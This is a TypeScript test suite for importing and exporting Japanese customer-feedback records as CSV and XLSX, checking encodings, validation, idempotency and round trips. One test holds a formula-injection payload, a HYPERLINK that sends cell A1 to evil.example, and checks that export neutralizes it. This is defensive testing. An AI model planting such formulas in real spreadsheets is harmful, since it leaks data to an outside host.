/** Import and export of voice files through HTTP, on every database: encodings, problems, idempotency, round trip. */
import ExcelJS from "exceljs";
import type { FastifyInstance } from "fastify";
import iconv from "iconv-lite";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { ImportResult } from "../../src/features/import-export/contract.js";
import { importContextFor, importVoiceFile } from "../../src/features/import-export/import-file.js";
import { importVoices, inImportTransaction } from "../../src/features/import-export/import-voices.js";
import { taxonomyIndex } from "../../src/features/users-and-settings/taxonomy.js";
import type { VoiceList } from "../../src/features/voices/contract.js";
import { readTable } from "../../src/io/read-table.js";
import { validateImportRows } from "../../src/io/voice-import-rows.js";
import type { VoiceDetail } from "../../src/shared/api-contract.js";
import { type ApiClient, clientAs, seedUsers, testApp } from "../helpers/api-client.js";
import { countRows, createTestDatabase, type TestDatabase, testDialects } from "../helpers/test-database.js";

const dialects = await testDialects();

const HEADER = "受付日時,受付チャネル,種別,分類,部署,内容,氏名,電話番号,外部ID";
const GOOD_ROWS = [
  "令和7年4月1日 10:30,コールセンター,苦情,応対,コールセンター,電話が何度かけてもつながらなかった。,山田 花子,090-1111-2222,SJ-001",
  "令和7年4月2日,窓口（支所・共済ショップ）,意見・要望,商品,東京支所,髙橋さんの説明①が分かりやすかった～もっと資料がほしい,,,SJ-002",
  "R7.5.10 9:05,ホームページ・マイページ,感謝・評価,支払い,お客様相談室,共済金の支払いが早くて助かりました,,,SJ-003",
  "2025/6/1,call_center,request,servicing,call_center,口座変更の書類を減らしてほしい,佐藤 一郎,03-1234-5678,SJ-004",
];

function sjisCsv(rows: string[]): Buffer {
  return iconv.encode(`${[HEADER, ...rows].join("\r\n")}\r\n`, "cp932");
}

describe.each(dialects)("import and export on %s", (dialect) => {
  let tdb: TestDatabase;
  let app: FastifyInstance;
  let cs: ApiClient;
  let staff: ApiClient;

  const upload = async (client: ApiClient, file: Buffer, name: string, dryRun: boolean) => {
    const res = await app.inject({
      method: "POST",
      url: `/api/v1/imports?dryRun=${dryRun}`,
      headers: {
        cookie: client.cookie ?? "",
        "x-csrf-token": client.csrf ?? "",
        "content-type": "application/octet-stream",
        "x-file-name": encodeURIComponent(name),
      },
      payload: file,
    });
    return { status: res.statusCode, body: JSON.parse(res.body) as ImportResult };
  };
  const download = async (client: ApiClient, query: string) => {
    const res = await app.inject({
      method: "GET",
      url: `/api/v1/exports/voices?${query}`,
      headers: { cookie: client.cookie ?? "" },
    });
    return { status: res.statusCode, headers: res.headers, raw: res.rawPayload, text: res.body };
  };
  const countVoices = () => countRows(tdb.db, "voices");
  const voiceByExternalId = async (externalId: string) => {
    const row = await tdb.db
      .selectFrom("voices")
      .select("id")
      .where("external_id", "=", externalId)
      .executeTakeFirstOrThrow();
    return (await cs.get<VoiceDetail>(`/api/v1/voices/${row.id}`)).body;
  };

  beforeAll(async () => {
    tdb = await createTestDatabase(dialect);
    app = await testApp(tdb);
    await seedUsers(tdb);
    cs = await clientAs(app, "cs@example.jp");
    staff = await clientAs(app, "staff@example.jp");
  });
  afterAll(async () => {
    await app?.close();
    await tdb?.drop();
  });

  it("imports a Shift_JIS CSV with Japanese headers and 令和 dates; a second run skips every row by 外部ID", async () => {
    const file = sjisCsv(GOOD_ROWS);
    const before = await countVoices();
    const dry = await upload(cs, file, "声の一覧（支所）.csv", true);
    expect(dry.status).toBe(200);
    expect(dry.body).toMatchObject({
      dryRun: true,
      total: 4,
      imported: 0,
      importable: 4,
      skipped: 0,
      problems: [],
    });
    expect(dry.body.encoding).toBe("shift_jis");
    expect(await countVoices()).toBe(before);

    const real = await upload(cs, file, "声の一覧（支所）.csv", false);
    expect(real.body).toMatchObject({ dryRun: false, total: 4, imported: 4, skipped: 0, problems: [] });
    expect(await countVoices()).toBe(before + 4);

    const v1 = await voiceByExternalId("SJ-001");
    expect(v1.receivedAt).toBe("2025-04-01T01:30:00.000Z");
    expect(v1).toMatchObject({
      type: { code: "complaint" },
      category: { code: "handling" },
      channel: { code: "call_center" },
      department: { code: "call_center" },
      status: "received",
      assignee: null,
      acknowledgeBy: "2025-04-02",
      resolveBy: "2025-04-08",
    });
    expect(v1.customer).toMatchObject({ name: "山田 花子", phone: "090-1111-2222" });
    expect(v1.timeline).toHaveLength(1);
    expect(v1.timeline[0]).toMatchObject({
      kind: "created",
      data: { source: "import", externalId: "SJ-001" },
    });
    expect(v1.receiptNumber).toMatch(/^2025-\d{6}$/);
    const v2 = await voiceByExternalId("SJ-002");
    // CP932 characters (髙, ①, ～) survive decoding; normalizeText then folds ① to 1 and ～ to 〜 as for every voice.
    expect(v2.content).toBe("髙橋さんの説明1が分かりやすかった〜もっと資料がほしい");
    expect(v2.receivedAt).toBe("2025-04-01T15:00:00.000Z");
    expect((await voiceByExternalId("SJ-003")).receivedAt).toBe("2025-05-10T00:05:00.000Z");

    // imported voices are in the search index at once
    const found = await cs.get<VoiceList>(`/api/v1/voices?q=${encodeURIComponent("つながらなかった")}`);
    expect(found.body.items.map((i) => i.receiptNumber)).toContain(v1.receiptNumber);

    const again = await upload(cs, file, "声の一覧（支所）.csv", false);
    expect(again.body).toMatchObject({ imported: 0, skipped: 4, problems: [] });
    const againDry = await upload(cs, file, "again.csv", true);
    expect(againDry.body).toMatchObject({ importable: 0, skipped: 4 });
    expect(await countVoices()).toBe(before + 4);
  });

  it("lists exactly the three bad rows in a dry run, and a real run writes nothing", async () => {
    const rows = [
      "2025/7/1 10:00,コールセンター,苦情,応対,コールセンター,一行目は正しい,,,BAD-1",
      "令和7年2月30日,コールセンター,苦情,応対,コールセンター,存在しない日付,,,BAD-2",
      "2025/7/2,コールセンター,クレーム,応対,コールセンター,存在しない種別,,,BAD-3",
      "2025/7/3,コールセンター,苦情,応対,コールセンター,,,,BAD-4",
      "2025/7/4,コールセンター,苦情,応対,コールセンター,最後の行も正しい,,,BAD-5",
    ];
    const file = sjisCsv(rows);
    const before = await countVoices();
    const dry = await upload(cs, file, "bad.csv", true);
    expect(dry.status).toBe(200);
    expect(dry.body.problems.map((p) => [p.row, p.column])).toEqual([
      [3, "受付日時"],
      [4, "種別"],
      [5, "内容"],
    ]);
    expect(dry.body.problems[0]?.reason).toContain("存在しない日付");
    expect(dry.body.problems[1]).toMatchObject({
      value: "クレーム",
      reason: "『クレーム』は登録されていない種別です",
    });
    expect(dry.body.problems[2]?.reason).toBe("内容を入力してください");
    const real = await upload(cs, file, "bad.csv", false);
    expect(real.body).toMatchObject({ dryRun: false, imported: 0 });
    expect(real.body.problems).toHaveLength(3);
    expect(await countVoices()).toBe(before);
  });

  it("imports an XLSX file (dates as cells), and refuses staff and an unreadable file", async () => {
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet("声");
    sheet.addRow(["receivedAt", "channel", "type", "category", "department", "content", "externalId"]);
    sheet.addRow([
      new Date(Date.UTC(2025, 7, 20, 14, 45)),
      "アンケート",
      "感謝・評価",
      "応対",
      "大阪支所",
      "笑顔の対応",
      "XL-1",
    ]);
    sheet.addRow(["令和7年8月21日", "survey", "other", "other", "osaka_branch", "その他の声", "XL-2"]);
    const buf = Buffer.from(await workbook.xlsx.writeBuffer());
    const res = await upload(cs, buf, "survey.xlsx", false);
    expect(res.body).toMatchObject({ imported: 2, problems: [] });
    expect((await voiceByExternalId("XL-1")).receivedAt).toBe("2025-08-20T05:45:00.000Z");
    expect((await voiceByExternalId("XL-2")).channel.code).toBe("survey");

    expect((await upload(staff, buf, "survey.xlsx", true)).status).toBe(403);
    const old = await upload(
      cs,
      Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
      "old.xls",
      true,
    );
    expect(old.status).toBe(400);
  });

  it("exports the list filter; export → import gives equal voices; formulas are neutralized", async () => {
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"詳細")';
    const inputs = [
      {
        receivedAt: "2025/9/1 8:59",
        channel: "visit",
        type: "complaint",
        category: "claim",
        productLine: "auto",
        department: "sapporo_branch",
        content: evil,
        remedySought: "+81 の番号に折り返してほしい",
        customer: {
          name: "北海 太郎",
          phone: "011-222-3333",
          email: "taro@example.jp",
          prefecture: "北海道",
          ageBand: "60代",
          gender: "男性",
          memberNumber: "0012345",
        },
      },
      {
        receivedAt: "2025/9/2 17:20",
        channel: "visit",
        type: "praise",
        category: "handling",
        department: "sapporo_branch",
        content: "訪問時の説明が丁寧で、\n家族も安心しました。",
      },
    ];
    const originals: VoiceDetail[] = [];
    for (const input of inputs) originals.push((await cs.post<VoiceDetail>("/api/v1/voices", input)).body);

    const csv = await download(cs, "format=csv&channel=visit&department=sapporo_branch");
    expect(csv.status).toBe(200);
    expect(csv.headers["content-disposition"]).toMatch(/^attachment; filename="koe-voices-\d{8}\.csv"$/);
    expect([...csv.raw.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const table = await readTable(csv.raw, "export.csv");
    expect(table.rows).toHaveLength(2);
    expect(table.headers).toContain("氏名");
    const contentCol = table.headers.indexOf("内容");
    expect(table.rows[0]?.[contentCol]).toBe(`'${evil}`);
    expect(table.rows[0]?.[table.headers.indexOf("ご要望")]).toBe("'+81 の番号に折り返してほしい");

    const xlsx = await download(cs, "format=xlsx&channel=visit");
    expect(xlsx.headers["content-type"]).toContain("spreadsheetml");
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx.raw as unknown as ArrayBuffer);
    const cell = workbook.worksheets[0]?.getCell(2, (table.headers.indexOf("内容") ?? 0) + 1);
    expect(cell?.type).toBe(ExcelJS.ValueType.String);
    expect(cell?.formula).toBeUndefined();

    const audit = await tdb.db
      .selectFrom("audit_log")
      .selectAll()
      .where("action", "=", "voices_exported")
      .orderBy("id", "desc")
      .executeTakeFirstOrThrow();
    expect(JSON.parse(audit.detail ?? "{}")).toMatchObject({
      rows: 2,
      format: "xlsx",
      customer: true,
      filter: { channel: "visit" },
    });

    // Round trip through both formats: the re-imported voices equal the originals.
    for (const file of [
      { buf: csv.raw, name: "export.csv" },
      { buf: xlsx.raw, name: "export.xlsx" },
    ]) {
      const maxBefore = Number(
        (
          await tdb.db
            .selectFrom("voices")
            .select((eb) => eb.fn.max("id").as("m"))
            .executeTakeFirstOrThrow()
        ).m,
      );
      const res = await upload(cs, file.buf, file.name, false);
      expect(res.body).toMatchObject({ imported: 2, problems: [] });
      expect(res.body.ignoredColumns).toEqual(["受付番号", "状態", "担当者", "回答期限"]);
      const copies = await tdb.db
        .selectFrom("voices")
        .select("id")
        .where("id", ">", maxBefore)
        .orderBy("received_at")
        .execute();
      for (const [i, { id }] of copies.entries()) {
        const copy = (await cs.get<VoiceDetail>(`/api/v1/voices/${id}`)).body;
        const original = originals[i] as VoiceDetail;
        expect(copy.content).toBe(original.content);
        expect(copy.remedySought).toBe(original.remedySought);
        expect(copy.receivedAt.slice(0, 16)).toBe(original.receivedAt.slice(0, 16));
        for (const k of ["type", "category", "channel", "productLine", "department"] as const)
          expect(copy[k]?.code).toBe(original[k]?.code);
        const pick = (c: VoiceDetail["customer"]) =>
          c && {
            name: c.name,
            phone: c.phone,
            email: c.email,
            memberNumber: c.memberNumber,
            prefecture: c.prefecture,
            ageBand: c.ageBand,
            gender: c.gender,
          };
        expect(pick(copy.customer)).toEqual(pick(original.customer));
        expect(copy.receiptNumber).not.toBe(original.receiptNumber);
      }
    }
  });

  it("imports through the bulk path of an opened database (CLI, bench) the same way, all or nothing", async () => {
    const rows = [
      "令和7年10月1日 9:00,コールセンター,苦情,応対,コールセンター,一括経路の一行目,山田 花子,090-1111-2222,BULK-1",
      "令和7年10月2日 9:00,コールセンター,その他,その他,コールセンター,一括経路の二行目,,,BULK-2",
    ];
    const before = await countVoices();
    const first = await importVoiceFile(tdb, null, sjisCsv(rows), "bulk.csv", { dryRun: false });
    expect(first).toMatchObject({ imported: 2, skipped: 0, problems: [] });
    const again = await importVoiceFile(tdb, null, sjisCsv(rows), "bulk.csv", { dryRun: false });
    expect(again).toMatchObject({ imported: 0, skipped: 2 });
    expect(await countVoices()).toBe(before + 2);
    const v = await voiceByExternalId("BULK-1");
    // Quoted: the exact characters (typed, the words would also find the first row's 一括経路の一行目, issue 16).
    const found = await cs.get<VoiceList>(`/api/v1/voices?q=${encodeURIComponent('"一括経路の二行目"')}`);
    expect(found.body.total).toBe(1);
    expect(v).toMatchObject({ createdBy: null, type: { code: "complaint" }, acknowledgeBy: "2025-10-02" });
    expect(v.customer).toMatchObject({ name: "山田 花子" });
    expect(v.timeline[0]).toMatchObject({ kind: "created", actor: null, data: { source: "import" } });
    // a receipt number taken by the bulk path is never handed out again by a registration
    const next = await cs.post<VoiceDetail>("/api/v1/voices", {
      receivedAt: "2025/10/3 9:00",
      channel: "call_center",
      type: "other",
      category: "other",
      department: "call_center",
      content: "一括取り込みの後の登録",
    });
    expect(next.status).toBe(201);
    expect(next.body.receiptNumber > v.receiptNumber).toBe(true);
    // a failure while writing rolls everything back: the import's transaction fails after the rows are written
    const table = await readTable(sjisCsv([rows[0]?.replace("BULK-1", "BULK-9") ?? ""]), "x.csv");
    const { valid } = await validateImportRows(table, importContextFor(await taxonomyIndex(tdb.db)));
    expect(valid).toHaveLength(1);
    const failing = await inImportTransaction(tdb, async (trx, sqlite) => {
      await importVoices(trx, null, valid, sqlite ? { sqlite } : {});
      throw new Error("書き込み途中の障害");
    }).catch((err: Error) => err);
    expect(failing).toBeInstanceOf(Error);
    expect(await countVoices()).toBe(before + 3);
  });

  it("imports while other requests write: both succeed and receipt numbers stay unique", async () => {
    const rows = Array.from(
      { length: 300 },
      (_, i) =>
        `2025/11/${(i % 28) + 1} 10:00,コールセンター,意見・要望,商品,コールセンター,同時実行の確認 ${i},,,PAR-${i}`,
    );
    const before = await countVoices();
    const register = (i: number) =>
      cs.post<VoiceDetail>("/api/v1/voices", {
        receivedAt: "2025/11/15 12:00",
        channel: "counter",
        type: "other",
        category: "other",
        department: "tokyo_branch",
        content: `取り込み中の登録 ${i}`,
      });
    const [imported, ...registered] = await Promise.all([
      upload(cs, sjisCsv(rows), "parallel.csv", false),
      register(1),
      register(2),
      register(3),
    ]);
    expect(imported.body).toMatchObject({ imported: 300, problems: [] });
    for (const r of registered) expect(r.status).toBe(201);
    expect(await countVoices()).toBe(before + 303);
    const numbers = await tdb.db.selectFrom("voices").select("receipt_number").execute();
    expect(new Set(numbers.map((n) => n.receipt_number)).size).toBe(numbers.length);
  });

  it("leaves customer columns out for staff, writes Shift_JIS on request, and checks the filter", async () => {
    const res = await download(staff, "format=csv&encoding=sjis&channel=visit");
    expect(res.status).toBe(200);
    expect(res.headers["content-type"]).toContain("Shift_JIS");
    const text = iconv.decode(res.raw, "cp932");
    expect(text.split("\r\n")[0]).not.toContain("氏名");
    expect(text).not.toContain("北海 太郎");
    expect(text).toContain("訪問時の説明が丁寧で");
    const audit = await tdb.db
      .selectFrom("audit_log")
      .selectAll()
      .where("action", "=", "voices_exported")
      .orderBy("id", "desc")
      .executeTakeFirstOrThrow();
    expect(JSON.parse(audit.detail ?? "{}")).toMatchObject({ customer: false, encoding: "sjis" });
    const bad = await download(staff, "format=csv&type=nope");
    expect(bad.status).toBe(400);
    expect((await app.inject({ method: "GET", url: "/api/v1/exports/voices" })).statusCode).toBe(401);
  });
});
